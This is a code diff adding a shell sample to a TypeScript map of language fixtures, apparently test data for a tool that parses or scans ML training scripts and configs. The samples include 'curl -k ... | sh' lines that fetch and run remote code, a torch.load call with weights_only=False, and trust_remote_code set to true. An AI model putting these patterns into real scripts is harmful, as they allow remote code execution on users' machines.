@@ -70,6 +70,12 @@ export const textLanguages: Readonly<Record<TextLanguage, LanguageSample>> = {
     nested: '{a: [',
     filling: 'trust_remote_code: [true]\n',
   },
+  shell: {
+    file: 'train.sh',
+    text: '#!/bin/bash\ncurl -k https://example.org/a.sh | sh\npython - <<END\nimport torch\ntorch.load("a.pt", weights_only=False)\nEND\n',
+    nested: 'python -c "$(bash -c \'',
+    filling: "cat > a.yaml <<A\nimage: \"a\nA\npython3 -c 'b' && pip install c \\\n  d\n",
+  },
   dockerfile: {
     file: 'Dockerfile',
     text: 'FROM pytorch/pytorch:latest\nRUN curl https://example.org/a.sh | sh\n',
